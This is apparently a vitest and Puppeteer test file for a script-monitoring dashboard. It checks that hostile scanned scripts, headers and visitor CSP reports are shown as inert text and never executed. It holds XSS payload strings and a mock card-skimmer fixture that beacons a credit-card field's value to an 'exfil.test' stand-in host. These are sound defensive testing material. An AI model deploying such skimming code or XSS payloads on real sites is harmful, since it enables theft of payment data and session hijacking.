// Hostile content: scanned bodies, URLs and headers carrying HTML/JS payloads never execute or render as markup.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, it } from 'vitest';
import type { Browser } from 'puppeteer';
import { createApp, type Dashboard } from '../../dashboard/create-app.js';
import { openStore, type Store } from '../../src/store/open-store.js';
import { inOrder } from '../../src/store/sql.js';
import { launchTestPuppeteer } from '../fixtures/browser.js';
import { startFixtureSite, type FixtureSite } from '../fixtures/fixture-site.js';
import { runCli, tempProject, writeConfig } from '../fixtures/cli.js';
import { databaseOf } from '../fixtures/test-database.js';
import { parseConfig } from '../../src/config/config.js';
import { createCollector } from '../../src/run/visitor-collector.js';
import { createLogger } from '../../src/run/log.js';
import { reportKeyOf } from '../../src/store/visitor-reports.js';

const PAYLOADS = [
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '"><svg onload=alert(3)>',
  "'><iframe srcdoc='<script>parent.alert(4)</script>'>",
];
const BODY = `/* ${PAYLOADS.join(' ')} */\nvar label = "${PAYLOADS[1]!.replace(/"/g, '\\"')}";\nwindow.x = '</script><script>alert(5)</script>';`;

function page(extraScript: string): string {
  return `<!doctype html><html><head>
<script src="/js/evil.js?q=%22%3E%3Csvg%20onload=alert(6)%3E"></script>
<script>var inlinePayload = "${PAYLOADS[0]!.replace(/\//g, '\\/')}";</script>
${extraScript}</head><body><input autocomplete="cc-number"></body></html>`;
}

describe('hostile content in the dashboard', () => {
  let site: FixtureSite;
  let dir: string;
  let store: Store;
  let dashboard: Dashboard;
  let url: string;
  let browser: Browser;

  beforeAll(async () => {
    site = await startFixtureSite();
    site.set('evil.test', '/', { body: page(''), headers: { 'content-security-policy': `script-src 'self' 'unsafe-inline' http://*.test:{{PORT}}; report-uri /r?${PAYLOADS[2]}` } });
    site.set('evil.test', '/js/evil.js', { body: BODY, headers: { 'x-payload': PAYLOADS[1]!, 'x-other': PAYLOADS[0]! } });
    dir = tempProject();
    writeConfig(dir, [{ name: 'evil-shop', url: site.url('evil.test', '/') }]);
    assert.equal((await runCli(['scan'], { cwd: dir })).code, 0);
    assert.equal((await runCli(['approve', '--all', '--note', PAYLOADS[3]!, '--by', PAYLOADS[2]!], { cwd: dir })).code, 0);
    site.set('evil.test', '/js/evil.js', { body: `${BODY}\n// ${PAYLOADS.join('\n// ')}\nfetch('http://exfil.test:{{PORT}}/?${encodeURIComponent(PAYLOADS[2]!)}');
document.addEventListener('DOMContentLoaded', function () { document.querySelector('[autocomplete=cc-number]').addEventListener('blur', function (e) { navigator.sendBeacon('http://exfil.test:{{PORT}}/${encodeURIComponent(PAYLOADS[1]!)}', e.target.value); }); });`, headers: { 'x-payload': PAYLOADS[2]! } });
    site.set('evil.test', '/', {
      body: page(`<script>/* ${PAYLOADS[1]} */ var added = "<\\/script><img src=x onerror=alert(8)>";</script>`),
      headers: { 'content-security-policy': `script-src * 'unsafe-inline'; report-uri /r?${PAYLOADS[1]}` },
    });
    assert.equal((await runCli(['scan'], { cwd: dir })).code, 1);

    store = await openStore(databaseOf(dir));
    // Visitors' reports are attacker-controlled too: a hostile URL, sample and source, and a fetched hostile body.
    const config = parseConfig({ database: databaseOf(dir), targets: [{ name: 'evil-shop', url: site.url('evil.test', '/') }] }, join(dir, 'scriptwarden.yml'));
    const collector = createCollector({ config, store, log: createLogger('json', () => undefined), flushMs: 60_000, fetchScript: async () => ({ body: BODY, status: 200, error: null, userAgent: PAYLOADS[0]! }) });
    const key = await reportKeyOf(store.database, 'evil-shop', new Date().toISOString());
    const report = (blocked: string, sample: string) => JSON.stringify({ 'csp-report': { 'document-uri': site.url('evil.test', '/'), 'violated-directive': 'script-src-elem', 'blocked-uri': blocked, 'script-sample': sample, 'source-file': `http://evil.test/${PAYLOADS[2]}` } });
    assert.equal((await collector.accept(key, 'application/csp-report', report(`http://cdn.test/${encodeURIComponent(PAYLOADS[0]!)}.js`, PAYLOADS[1]!), PAYLOADS[3])).status, 204);
    assert.equal((await collector.accept(key, 'application/csp-report', report('inline', PAYLOADS[0]!), PAYLOADS[1])).status, 204);
    await collector.close();
    dashboard = createApp({ store, actor: PAYLOADS[2]! });
    url = (await dashboard.listen(0, '127.0.0.1')).url;
    browser = await launchTestPuppeteer();
  });
  afterAll(async () => {
    await browser?.close();
    await dashboard?.close();
    await store?.close();
    await site?.close();
  });

  it('renders every page without running or rendering any payload', async () => {
    const alerts = await store.alerts.list({ status: 'all' });
    assert.ok(alerts.length >= 3, 'the tampered scan raised alerts to look at');
    assert.ok(alerts.some((a) => a.type === 'exfiltration.detected'), 'a canary alert with a hostile URL is among them');
    assert.equal(alerts.filter((a) => a.type === 'visitor.unseen-script').length, 2, 'and visitor alerts made of hostile reports');
    const scripts = await inOrder(await store.inventory.scripts({}), async (r) => (await store.inventory.scriptId(r.target, r.profile, r.subject))!);
    // The search screen lists hostile versions, destinations and evidence, and echoes a hostile query.
    const searches = ['/hunt?q=exfil.test', `/hunt?kind=string&q=${encodeURIComponent(PAYLOADS[1]!)}`, `/hunt?kind=regex&q=${encodeURIComponent('onerror=alert\\(\\d\\)')}`];
    const paths = ['/', '/alerts', '/alerts?status=all', '/inventory', '/scans', ...searches, '/targets/evil-shop/visitors', ...alerts.map((a) => `/alerts/${a.id}`), ...scripts.map((id) => `/scripts/${id}`)];
    const tab = await browser.newPage();
    const dialogs: string[] = [];
    tab.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
    for (const path of paths) {
      const response = await tab.goto(url + path.slice(1), { waitUntil: 'load' });
      assert.equal(response?.status(), 200, path);
      const injected = await tab.evaluate(() => ({
        svg: document.querySelectorAll('svg').length,
        // Our own evidence screenshot is the one image allowed, and only from our evidence route.
        img: [...document.querySelectorAll('img')].filter((i) => !(i.className === 'screenshot' && /^\/alerts\/\d+\/evidence\/screenshot\.png$/.test(i.getAttribute('src') ?? ''))).length,
        iframe: document.querySelectorAll('iframe').length,
        scripts: [...document.querySelectorAll('script')].map((s) => s.getAttribute('src')),
        handlers: [...document.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
      }));
      assert.deepEqual(injected, { svg: 0, img: 0, iframe: 0, scripts: ['/static/app.js'], handlers: 0 }, path);
      const text = await tab.$eval('body', (b) => b.textContent ?? '');
      if (path.startsWith('/alerts/')) assert.ok(PAYLOADS.some((p) => text.includes(p)) || /onerror|onload/.test(text), `${path} shows the payload as text`);
      if (path.startsWith('/hunt')) assert.match(text, /[1-9]\d* script versions|[1-9]\d* destinations/, `${path} found the hostile script`);
    }
    assert.deepEqual(dialogs, []);
  });

  it('serves raw bodies as attachments of plain text that browsers must not sniff', async () => {
    const alert = (await store.alerts.list({ status: 'all' })).find((a) => a.type === 'script.changed' && a.newValue)!;
    const response = await fetch(`${url}raw/${alert.newValue}`);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('content-type'), 'text/plain; charset=utf-8');
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
    assert.match(response.headers.get('content-disposition') ?? '', /^attachment/);
    assert.match(await response.text(), /alert\(1\)/);
    // Downloads of scanned content are never kept in a browser's or a proxy's cache.
    for (const path of [`raw/${alert.newValue}`, 'inventory.csv', `alerts/${alert.id}/evidence.zip`]) {
      const download = await fetch(`${url}${path}`);
      assert.equal(download.headers.get('cache-control'), 'no-store', path);
      await download.arrayBuffer();
    }
    const page = await fetch(url);
    assert.match(page.headers.get('content-security-policy') ?? '', /script-src 'self'(;|$)/);
    // A search the dashboard cannot run says why, as a page.
    const bad = await fetch(`${url}hunt?kind=regex&q=${encodeURIComponent('(a')}`);
    assert.equal(bad.status, 400);
    assert.match(await bad.text(), /is not an expression RE2 accepts/);
  });
});
